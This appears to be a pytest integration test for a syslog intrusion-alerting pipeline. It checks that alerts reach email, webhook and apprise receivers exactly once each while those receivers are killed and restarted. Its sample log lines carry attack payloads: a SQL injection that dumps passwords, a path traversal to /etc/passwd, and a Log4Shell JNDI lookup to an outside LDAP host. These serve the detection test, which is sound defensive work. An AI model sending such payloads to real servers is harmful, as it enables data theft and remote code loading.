"""Notifications through the whole chain, with the receivers killed in the middle of it.

Attack lines go through the web host's rsyslogd, RELP/TLS and the central rsyslogd into the real
lwsyslog-omprog, whose sender delivers every alert to three channels: e-mail to an SMTP server
(aiosmtpd, STARTTLS with a certificate from this test's CA, AUTH), a signed webhook and an
apprise ``json://`` URL to an HTTP receiver. Both receivers are processes of their own that keep
each message before answering, slowly. While lines keep coming, both are killed (SIGKILL, some
deliveries in flight), then started again on the same ports: every alert reaches every channel,
in exactly one message per channel (a retry of a message whose answer the kill cut carries the
same delivery id, which is how a receiver recognises it).
"""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections import Counter, defaultdict
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import LiveChain, require_lab

from lwsyslog import lab
from lwsyslog.deploy import certs

pytestmark = [pytest.mark.integration, pytest.mark.slow]

ROOT = Path(__file__).resolve().parents[2]
SECRET = "0123456789abcdef-chain-secret"
ANSWER_DELAY = 0.15
ATTACKS = (
    '"GET /item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1" 200 512 '
    '"-" "curl/8.0"',
    '"GET /index.html?file=../../../../etc/passwd HTTP/1.1" 200 512 "-" "curl/8.0"',
    '"GET / HTTP/1.1" 200 512 "-" "${jndi:ldap://198.51.100.9:1389/a}"',
)
_CLIENT = re.compile(r": (\S+) on ")
_DELIVERY = re.compile(r"delivery id: ([0-9a-f]{32})")


class Receiver:
    """``tests/notify/receiver_proc.py`` as a process: started, killed, started again."""

    def __init__(self, kind: str, out: Path, *extra: str) -> None:
        self.kind = kind
        self.out = out
        self.port = lab.free_port()
        self.extra = extra
        self.proc: subprocess.Popen[str] | None = None
        self.kills = 0

    def start(self) -> None:
        command = [sys.executable, "-m", "tests.notify.receiver_proc", self.kind,
                   "--port", str(self.port), "--out", str(self.out),
                   "--answer-delay", str(ANSWER_DELAY), *self.extra]  # fmt: skip
        log = self.out.with_suffix(".stderr").open("a")
        self.proc = subprocess.Popen(
            command, cwd=ROOT, stdout=subprocess.PIPE, stderr=log, text=True
        )
        log.close()
        assert self.proc.stdout is not None
        assert self.proc.stdout.readline().strip() == "ready", self.kind

    def kill(self) -> None:
        assert self.proc is not None
        os.kill(self.proc.pid, signal.SIGKILL)
        self.proc.wait(10)
        self._close()
        self.kills += 1

    def stop(self) -> None:
        if self.proc is not None and self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(10)
        self._close()

    def _close(self) -> None:
        if self.proc is not None and self.proc.stdout is not None:
            self.proc.stdout.close()

    def records(self) -> list[dict[str, Any]]:
        if not self.out.exists():
            return []
        return [json.loads(line) for line in self.out.read_text().splitlines() if line]


@pytest.fixture
def receivers(tmp_path: Path) -> Iterator[tuple[Receiver, Receiver, Path]]:
    pki = tmp_path / "pki"
    ca = certs.make_ca(pki, "notify chain test")
    leaf = certs.make_cert(pki, ca, "localhost")
    smtp = Receiver("smtp", tmp_path / "mail.jsonl", "--cert", str(leaf.cert),
                    "--key", str(leaf.key))  # fmt: skip
    http = Receiver("http", tmp_path / "http.jsonl", "--secret", SECRET)
    try:
        smtp.start()
        http.start()
        yield smtp, http, ca.cert
    finally:
        smtp.stop()
        http.stop()


def _config(directory: Path, smtp: Receiver, http: Receiver, ca_file: Path) -> Path:
    password = directory / "smtp-password"
    password.write_text("s3cret-pass\n")
    password.chmod(0o600)
    secret = directory / "webhook-secret"
    secret.write_text(SECRET + "\n")
    secret.chmod(0o600)
    policy = 'min_severity = "low"\ngroup_interval_secs = 0\nstorm_clients = 0\ntimeout_secs = 3\n'
    return lab.write_lab_config(
        directory / "lwsyslog.toml",
        # Every line its own alert: no storm folding in the pipeline either.
        "[alerts]\nstorm_max_alerts = 0\n\n"
        "[notify]\nretry_initial_secs = 0.2\nretry_max_secs = 1.0\n\n"
        f'[notify.channels.mail]\ntype = "email"\nhost = "localhost"\nport = {smtp.port}\n'
        f'security = "starttls"\nca_file = "{ca_file}"\nuser = "lwsyslog"\n'
        f'password_file = "{password}"\nfrom = "lwsyslog <lwsyslog@example.net>"\n'
        f'to = ["ops@example.net"]\n{policy}\n'
        f'[notify.channels.hook]\ntype = "webhook"\nurl = "http://127.0.0.1:{http.port}/hook"\n'
        f'secret_file = "{secret}"\n{policy}\n'
        f'[notify.channels.phone]\ntype = "apprise"\n'
        f'urls = ["json://127.0.0.1:{http.port}/apprise"]\n{policy}',
    )


def _line(number: int) -> bytes:
    client = f"198.18.{number // 200}.{number % 200 + 1}"
    stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
    return lab.syslog_line(f"{client} - - [{stamp}] {ATTACKS[number % len(ATTACKS)]}")


def _deliveries(smtp: Receiver, http: Receiver) -> dict[str, list[tuple[str, frozenset[str]]]]:
    """Per channel: (delivery id, the clients its alerts came from) of each message kept."""
    out: dict[str, list[tuple[str, frozenset[str]]]] = defaultdict(list)
    for record in smtp.records():
        match = _CLIENT.search(record["subject"])
        out["mail"].append((record["delivery"], frozenset([match.group(1)] if match else [])))
    for record in http.records():
        if record["channel"] == "hook":
            out["hook"].append((record["delivery"], frozenset(record["clients"])))
        else:
            client, delivery = _CLIENT.search(record["title"]), _DELIVERY.search(record["body"])
            assert client and delivery, record
            out["phone"].append((delivery.group(1), frozenset([client.group(1)])))
    return out


def _clients(deliveries: list[tuple[str, frozenset[str]]]) -> set[str]:
    return {client for _, clients in deliveries for client in clients}


def test_killed_receivers_miss_nothing_and_repeat_nothing(
    tmp_path: Path,
    pki: Any,
    journal: lab.JournalNamespace,
    receivers: tuple[Receiver, Receiver, Path],
) -> None:
    require_lab()
    smtp, http, ca_file = receivers
    work = tmp_path / "chain"
    work.mkdir()
    program = lab.omprog_command(
        config=_config(work, smtp, http, ca_file),
        state_dir=work / "state",
        messages_file=work / "messages",
    )
    with LiveChain(work, journal, pki, program) as chain:
        first, total = 10, 40

        def everywhere(count: int) -> bool:
            got = _deliveries(smtp, http)
            return all(len(_clients(got[name])) >= count for name in ("mail", "hook", "phone"))

        lab.inject(chain.input_port, [_line(n) for n in range(first)])
        lab.wait_for(lambda: everywhere(first), 60, "the first alerts at every receiver")

        def keep_sending() -> None:
            for number in range(first, total):
                lab.inject(chain.input_port, [_line(number)])
                time.sleep(0.05)

        sender = threading.Thread(target=keep_sending)
        sender.start()
        time.sleep(0.5)
        smtp.kill()
        http.kill()
        at_kill = _deliveries(smtp, http)
        sender.join()
        time.sleep(2.0)  # the sender meets refused connections and keeps the messages
        smtp.start()
        http.start()
        lab.wait_for(lambda: everywhere(total), 90, "every alert at every receiver")
        time.sleep(2.0)  # a duplicate from a retry would arrive now

        alerts = chain.messages_lines()
        clients = Counter(line.split("client=")[1].split()[0] for line in alerts)
        assert len(clients) == total and set(clients.values()) == {1}, clients

    got = _deliveries(smtp, http)
    # The kill came in the middle: alerts were still on their way to every channel.
    assert all(len(_clients(at_kill[name])) < total for name in ("mail", "hook", "phone"))
    for name in ("mail", "hook", "phone"):
        assert _clients(got[name]) == set(clients), name
        ids_per_client: dict[str, set[str]] = defaultdict(set)
        content: dict[str, set[frozenset[str]]] = defaultdict(set)
        for delivery, delivered in got[name]:
            content[delivery].add(delivered)
            for client in delivered:
                ids_per_client[client].add(delivery)
        # Every alert in exactly one message; a message kept twice (its answer was cut by a
        # kill) is the same message, with the same delivery id and content.
        assert all(len(ids) == 1 for ids in ids_per_client.values()), (name, ids_per_client)
        assert all(len(c) == 1 for c in content.values()), name
        repeats = len(got[name]) - len(content)
        assert repeats <= smtp.kills + http.kills, (name, repeats)
